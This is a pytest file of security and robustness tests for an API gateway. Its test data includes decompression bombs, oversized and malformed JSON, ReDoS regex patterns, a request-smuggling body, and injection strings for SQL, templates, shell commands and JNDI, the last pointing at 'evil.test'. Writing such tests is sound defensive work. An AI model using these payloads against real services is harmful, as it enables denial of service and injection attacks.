"""More than anyone needs: in bodies, connections, JSON, packed replies, texts and numbers."""

import gzip
import json
import re
import socket
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from typer.testing import CliRunner

from app import cli
from app.api.connection import Connection
from tests.fixtures.aid import Aid, answers, row
from tests.fixtures.case import case
from tests.fixtures.far_side import FarSide, Said
from tests.fixtures.live import CLOSE, HOST, Heard, Live, ask, bearer, good, lines, listening, say
from tests.fixtures.served import free_port, served

MIB = 1024 * 1024
JSON = b"Content-Type: application/json"
SEARCH = b"/v1/orang:search"


class Open(NamedTuple):
    live: Live
    side: FarSide
    token: bytes
    pid: int

    def post(self, body: bytes, *more: bytes) -> Heard:
        told = (HOST, CLOSE, self.token, *(more or (JSON,)), b"Content-Length: %d" % len(body))
        return ask(self.live, lines(SEARCH, *told, method=b"POST", body=body))

    def get(self, query: bytes = b"") -> Heard:
        return ask(self.live, lines(b"/v1/orang" + query, HOST, CLOSE, self.token))

    def peak(self) -> int:
        """The most memory that the gateway's process ever had, in bytes; 0 where the system does not tell."""
        status = Path(f"/proc/{self.pid}/status")
        found = re.search(r"VmHWM:\s+(\d+) kB", status.read_text()) if status.exists() else None
        return int(found[1]) * 1024 if found else 0


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Open]:
    with ExitStack() as stack:
        aid = Aid(tmp_path_factory.mktemp("door"), stack)
        side = aid.source("dinsos.orang", [row(1)])
        aid.town.client("bappeda-app", "bappeda")
        aid.town.agreement("PKS-1", "bappeda", "dinsos", "orang", more='actions = ["read", "verify"]')
        port = free_port()
        process = stack.enter_context(served(aid.town, port))
        live = Live(port, aid.town)
        made = Open(live, side, bearer(live), process.pid)
        assert made.get().status == 200
        side.asked.clear()
        yield made


def endless(live: Live, head: bytes, chunk: bytes, most: int) -> int:
    """The bytes that the gateway took before it hung up."""
    sent = 0
    with socket.create_connection(("127.0.0.1", live.port), timeout=10) as line:
        line.sendall(head)
        try:
            while sent < most:
                line.sendall(chunk)
                sent += len(chunk)
        except (ConnectionResetError, BrokenPipeError):
            pass
    return sent


CHUNKED = lines(SEARCH, HOST, JSON, b"Transfer-Encoding: chunked", method=b"POST")
ENDLESS = [
    (b"GET /v1/", b"a" * 65536),
    (b"GET /v1/orang HTTP/1.1\r\nHost: titian.test\r\nX-Y: ", b"a" * 65536),
    (b"GET /v1/orang HTTP/1.1\r\nHost: titian.test\r\n", b"X-Y: z\r\n" * 8192),
    (CHUNKED + b"1;", b"x" * 65536),
    (CHUNKED + b"0\r\nX-Y: ", b"x" * 65536),
    (CHUNKED, b"1\r\n \r\n" * 10_000),
]


@case(
    "H29",
    sent="A body of 1 GB; chunks, headers, a target, trailers without an end; a Content-Length that says too much or too little",
    must="413 or 400 and a closed connection; what follows is no second question, and memory stays flat",
)
def test_a_body_without_an_end_is_not_kept(door: Open) -> None:
    before = door.peak()
    for length in (b"1073741824", b"1048577", b"9" * 18, b"9" * 5000):
        heard = ask(door.live, lines(SEARCH, HOST, door.token, JSON, b"Content-Length: " + length, method=b"POST"))
        assert (heard.status, heard.headers["connection"]) == ((413, "close") if len(length) < 1000 else (400, "close"))
    chunked = lines(SEARCH, HOST, door.token, JSON, b"Transfer-Encoding: chunked", method=b"POST")
    assert endless(door.live, chunked, b"10000\r\n" + b" " * 65536 + b"\r\n", 1024 * MIB) < 64 * MIB
    for head, chunk in ENDLESS:
        assert endless(door.live, head, chunk, 1024 * MIB) < 64 * MIB
    hidden = b"{}GET /v1/orang HTTP/1.1\r\nHost: titian.test\r\n\r\n"
    said = say(door.live, lines(SEARCH, HOST, door.token, JSON, CLOSE, b"Content-Length: 2", method=b"POST", body=hidden))
    assert said.count(b"HTTP/1.1 ") == 1
    for _ in range(5):
        with socket.create_connection(("127.0.0.1", door.live.port), timeout=10) as line:
            line.sendall(lines(SEARCH, HOST, door.token, JSON, b"Content-Length: 1000", method=b"POST", body=b"{}"))
    good(door.live)
    assert len(door.side.asked) <= 1
    assert door.peak() - before < 32 * MIB


class Hasty(Connection):
    patience = 0.3


@case(
    "H30",
    sent="Connections that say nothing, half a request line or half of the headers",
    must="Closed after 10 s (here 0.3); a healthy client is answered meanwhile",
)
def test_a_connection_that_never_asks_is_closed(tmp_path: Path) -> None:
    with ExitStack() as stack:
        aid = Aid(tmp_path, stack)
        live = stack.enter_context(listening(aid.town, Hasty))
        slow = []
        for begun in (
            b"",
            b"G",
            b"GET /healthz HTTP/1.1\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: titian.test\r\nX-Y: ",
            lines(b"/healthz", HOST) + b"GET / HT",
        ):
            for _ in range(10):
                line = stack.enter_context(socket.create_connection(("127.0.0.1", live.port), timeout=20))
                line.sendall(begun)
                slow.append((line, begun.count(b"\r\n\r\n")))
        good(live)
        for line, answered in slow:
            said = b""
            while chunk := line.recv(65536):
                said += chunk
            assert said.count(b"HTTP/1.1 200 OK") == answered
        with socket.create_connection(("127.0.0.1", live.port), timeout=20) as kept:
            for _ in range(3):
                kept.sendall(lines(b"/healthz", HOST))
                assert kept.recv(65536).startswith(b"HTTP/1.1 200")


STRANGE = {
    "depth of 100,000": b'{"filter":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "depth of objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "an open depth": b"[" * 1_000_000,
    "100,000 names": json.dumps({f"a{number}": 1 for number in range(80_000)}).encode(),
    "100,000 filters": json.dumps({"filter": {f"a{number}": 1 for number in range(70_000)}}).encode(),
    "100,000 values": b'{"filter": {"umur": [' + b",".join([b"1"] * 400_000) + b"]}}",
    "100,000 fields": b'{"fields": [' + b",".join([b'"a"'] * 200_000) + b"]}",
    "100,000 sorts": b'{"sort": [' + b",".join([b'"umur"'] * 100_000) + b',"x"]}',
    "5000 digits": b'{"limit": ' + b"9" * 5000 + b"}",
    "5000 digits in a filter": b'{"filter": {"umur": ' + b"9" * 5000 + b"}}",
    "a number without an end": b'{"limit": 1e400}',
    "NaN": b'{"filter": {"umur": NaN}}',
    "Infinity": b'{"filter": {"umur": -Infinity}}',
    "half a character": b'{"filter": {"nama": "\\ud800"}}',
    "NUL": b'{"filter": {"nama": "a\\u0000b"}}',
    "a name twice": b'{"limit": 1, "limit": 2}',
    "a name twice, escaped": b'{"limit": 1, "\\u006cimit": 2}',
    "UTF-16": '{"limit": 1}'.encode("utf-16"),
    "UTF-16 without a mark": '{"limit": 1}'.encode("utf-16-le"),
    "UTF-7": b"+AHsAfQ-",
    "a mark": b"\xef\xbb\xbf{}",
    "overlong": b'{"filter": {"nama": "\xc0\xaf"}}',
    "a text for a number": b'{"limit": "1"}',
    "true for 1": b'{"limit": true}',
    "true for 1 in a filter": b'{"filter": {"umur": true}}',
    "an unknown member": b'{"role": "admin"}',
    "a list": b"[]",
    "text": b'"a"',
    "nothing": b"",
    "two": b"{}{}",
}


@pytest.mark.parametrize("name", STRANGE)
@case(
    "H31",
    sent="JSON 100,000 deep, of 100,000 names or values, with 5000 digits, NaN, half a character, a name twice, in UTF-16, of another type",
    must="400, with an answer that does not grow with the question; the source is not asked",
)
def test_json_is_read_strictly_or_not_at_all(door: Open, name: str) -> None:
    door.side.asked.clear()
    heard = door.post(STRANGE[name])
    assert (heard.status, heard.json["code"]) == (400, "bad_question")
    assert len(heard.body) < 16 * 1024
    assert door.side.asked == []


def packed(content: bytes, bits: int) -> bytes:
    made = zlib.compressobj(9, zlib.DEFLATED, bits)
    return made.compress(content) + made.flush()


BOMB = packed(b'{"data": [' + b" " * (200 * MIB) + b"]}", 31)
PLAIN = json.dumps({"data": [row(1)], "total": 1}).encode()
PACKED = {
    "gzip bomb": ("gzip", BOMB, "too_large"),
    "deflate bomb": ("deflate", packed(b" " * (100 * MIB), 15), "too_large"),
    "nested gzip": ("gzip", gzip.compress(BOMB), "charset"),
    "nested and said so": ("gzip, gzip", gzip.compress(BOMB), "encoding"),
    "brotli": ("br", bytes.fromhex("0b0280") + b"{}" + b"\x03", "encoding"),
    "zstd": ("zstd", bytes.fromhex("28b52ffd") + bytes(20), "encoding"),
    "compress": ("compress", b"\x1f\x9d" + bytes(20), "encoding"),
    "another label": ("gzip", PLAIN, "encoding"),
    "no label": ("identity", gzip.compress(PLAIN), "charset"),
    "cut short": ("gzip", gzip.compress(PLAIN)[:-9], "broken_reply"),
    "with a tail": ("gzip", gzip.compress(PLAIN) + b"x", "broken_reply"),
    "17 MiB as they are": ("identity", b" " * (17 * MIB), "too_large"),
}


@pytest.mark.parametrize("name", PACKED)
@case(
    "H32",
    sent="A source's gzip and deflate bombs (200 MB), nested gzip, br, zstd, a wrong label, a cut or a tail; a caller's packed body",
    must="502 `source_bad_answer` and a memory below the cap; a packed question is 400",
)
def test_a_packed_reply_is_unpacked_within_bounds(door: Open, name: str) -> None:
    encoding, body, reason = PACKED[name]
    door.side.answer = lambda _asked: Said({"data": [row(1)], "total": 1})
    assert door.get().status == 200, "a source that only lies would be asked no more"
    before = door.peak()
    door.side.answer = lambda _asked: Said(body, headers={"content-type": "application/json", "content-encoding": encoding})
    heard = door.get()
    assert (heard.status, heard.json["code"], heard.json["reason"]) == (502, "source_bad_answer", reason)
    assert door.peak() - before < 96 * MIB
    assert door.post(gzip.compress(b"{}"), JSON, b"Content-Encoding: gzip").status == 400
    assert door.post(BOMB, JSON, b"Content-Encoding: gzip").status == 400


FIELDS = """\
      - {name: id, logicalType: string, primaryKey: true, primaryKeyPosition: 1, required: true, classification: terbatas}
      - {name: pola, logicalType: string, logicalTypeOptions: {pattern: '^(a+)+$'}}
      - {name: pola2, logicalType: string, logicalTypeOptions: {pattern: '^(a|a)*$'}}
      - {name: surel, logicalType: string, logicalTypeOptions: {format: email}}
      - {name: uri, logicalType: string, logicalTypeOptions: {format: uri}}
      - {name: rumah, logicalType: string, logicalTypeOptions: {format: hostname}}
      - {name: uuid, logicalType: string, logicalTypeOptions: {format: uuid}}
      - {name: nik, logicalType: string, customProperties: [{property: titian.semantic, value: nik}]}
      - {name: kk, logicalType: string, customProperties: [{property: titian.semantic, value: no_kk}]}
      - {name: hp, logicalType: string, customProperties: [{property: titian.semantic, value: phone}]}
      - {name: kel, logicalType: string, customProperties: [{property: titian.semantic, value: region}]}
      - {name: uang, logicalType: integer, customProperties: [{property: titian.semantic, value: money}]}
      - {name: persen, logicalType: number, customProperties: [{property: titian.semantic, value: percent}]}
      - {name: bulat, logicalType: integer}
      - {name: pecah, logicalType: number, logicalTypeOptions: {multipleOf: 0.01}}
      - {name: hari, logicalType: date}
      - {name: saat, logicalType: timestamp}
      - {name: benar, logicalType: boolean}
      - {name: daftar, logicalType: array, items: {logicalType: string}}
"""
NAMES = re.findall(r"name: (\w+)", FIELDS)
TEXTS = [
    *(
        "a" * 50_000 + "!",
        "a@" + "a." * 25_000 + "!",
        "a:" + "%" * 50_000,
        "a-" * 25_000 + "!",
        "a." * 25_000 + "_",
        "1" * 50_000 + "!",
        "1." * 25_000,
    ),
    *(
        "1,000" + ".000" * 12_000 + "x",
        "Rp" + " " * 50_000 + "x",
        " " * 50_000 + "x",
        "1-" * 25_000,
        "(" * 50_000,
        "+" * 50_000,
        "é" * 50_000,
        "\u0301" * 50_000,
    ),
    *(
        "1e999999999",
        "1.2E+99999999",
        "9e9999",
        "0x" + "f" * 50_000,
        "1_0" * 10_000,
        "\u200b" * 50_000 + "a",
        "2024-01-01T" + "0" * 50_000,
        "ﷺ" * 50_000,
    ),
]


@pytest.mark.timeout(40)
@case(
    "H36",
    sent="Texts of 50,000 characters that keep a validator busy, from a source and in a question, for every type and for patterns like `^(a+)+$`",
    must="Read in a moment: patterns run on an engine without backtracking, and one it does not know is refused by `titian check`",
)
def test_no_text_keeps_a_validator_busy(tmp_path: Path) -> None:
    with ExitStack() as stack:
        aid = Aid(tmp_path, stack)
        aid.town.contract("orang", FIELDS)
        rows = [{**dict.fromkeys(NAMES, text), "id": f"{number:04}"} for number, text in enumerate(TEXTS)]
        side = aid.source("dinsos.orang", [], size=5)
        side.answer = answers(rows, "id")
        path = aid.town.folder / "systems" / "dinsos.orang.toml"
        written = path.read_text()
        path.write_text(written[: written.index("[resource.map]")] + "[resource.map]\n" + "".join(f'{name} = "{name}"\n' for name in NAMES))
        aid.town.client("dinsos-app", "dinsos")
        live = stack.enter_context(listening(aid.town))
        token = bearer(live, "dinsos-app")
        heard = ask(live, lines(b"/v1/orang", HOST, CLOSE, token))
        assert heard.status == 200, heard.body
        assert len(heard.json["data"]) == len(TEXTS)
        assert all(one["pola"] in (None, "a") for one in heard.json["data"])
        side.answer = answers([], "id")
        for text in TEXTS:
            for name in NAMES:
                body = json.dumps({"filter": {name: text}, "limit": 1}).encode()
                told = (HOST, CLOSE, token, JSON, b"Content-Length: %d" % len(body))
                assert ask(live, lines(SEARCH, *told, method=b"POST", body=body)).status in (200, 400)
        aid.town.contract("orang", FIELDS.replace("^(a+)+$", r"^(?=a)(a)\1$"))
        assert CliRunner().invoke(cli.app, ["check", str(aid.town.folder)]).exit_code == 1


@case(
    "H37",
    sent="`limit` of 10^9, an offset, an unknown sort, `' OR 1=1--`, Jinja or a format in a system's file",
    must="400 naming the parameter; a text is only ever compared; `titian check` refuses the file or takes the text as a name",
)
def test_a_question_is_no_program(door: Open, tmp_path: Path) -> None:
    door.side.answer = answers([row(1), row(2)], "id")
    door.side.asked.clear()
    wrong = [
        b"limit=1000000000",
        b"limit=0",
        b"limit=-1",
        b"limit=1e3",
        b"limit=1_0",
        b"limit=%D9%A1",
        b"limit=",
        b"offset=1000000000000",
        b"page=9",
        b"per=99",
    ]
    wrong += [
        b"sort=umr",
        b"sort=id;drop",
        b"sort=-",
        b"sort=id%20desc",
        b"sort=(select%201)",
        b"fields=id)%20FROM%20x--",
        b"umur=1%20OR%201=1",
        b"$where=1",
    ]
    wrong += [
        b"cursor=AAAA",
        b"cursor=" + b"A" * 3000,
        b"count=all",
        b"id__regex=.*",
        b"id____class__=1",
        b"__class__=1",
        b"id.id=1",
        b"filter[id]=1",
    ]
    for query in wrong:
        heard = door.get(b"?" + query)
        assert (heard.status, heard.json["code"]) == (400, "bad_question"), query
    assert door.side.asked == []
    for text in ("' OR 1=1--", "{{().__class__}}", "${jndi:ldap://evil.test}", "$(id)", "%s%n", "1; DROP TABLE ledger", "*", "%"):
        heard = door.post(json.dumps({"filter": {"id": text}}).encode())
        assert (heard.status, heard.json["data"]) == (200, []), text


def checked(aid: Aid, change: Callable[[str], str]) -> list[dict[str, Any]]:
    path = aid.town.folder / "systems" / "dinsos.orang.toml"
    written = path.read_text()
    path.write_text(change(written))
    assert path.read_text() != written
    found = CliRunner().invoke(cli.app, ["check", str(aid.town.folder), "--json"])
    path.write_text(written)
    return json.loads(found.stdout) if found.exit_code else []


@case(
    "H37",
    sent="`{id.__class__}`, `{id!r}`, `{id:>1000000000}`, `{{().__class__}}`, a function or a script as a JSONPath or a way to read a field",
    must="`titian check` refuses the file; what it takes is a name, and there is no such name",
)
def test_a_file_of_a_system_is_no_program(tmp_path: Path) -> None:
    with ExitStack() as stack:
        aid = Aid(tmp_path, stack)
        side = aid.source("dinsos.orang", [row(1)])
        for place in ("{id.__class__}", "{id[0]}", "{id!r}", "{id:>1000000000}", "{id.__class__.__mro__}", "{0}", "{}", "{id", "{nik}"):
            assert checked(aid, lambda text, place=place: text.replace("/orang/{id}", f"/orang/{place}")), place
        for rule in ('{ jinja = "{{x}}" }', '{ eval = "1+1" }', '{ from = "nm", as = "python" }', '{ from = "nm", format = "%(nm)s" }', "[1]"):
            assert checked(aid, lambda text, rule=rule: text.replace('nama = "nm"', f"nama = {rule}")), rule
        for script in ("$.data[?(@.a =~ /(a+)+$/)]", "$.data[(@.length-1)]", "{{().__class__}}", "$..[?(eval())]", "$.data[?match(@.nm, '(')"):
            assert checked(aid, lambda text, script=script: text.replace('rows = "$.data"', f'rows = "{script}"')), script
        path = aid.town.folder / "systems" / "dinsos.orang.toml"
        path.write_text(path.read_text().replace('nama = "nm"', 'nama = "{{().__class__}}"'))
        aid.town.client("dinsos-app", "dinsos")
        live = stack.enter_context(listening(aid.town))
        heard = ask(live, lines(b"/v1/orang", HOST, CLOSE, bearer(live, "dinsos-app")))
        assert heard.status == 200
        assert b"class" not in heard.body
        assert len(side.asked) == 1
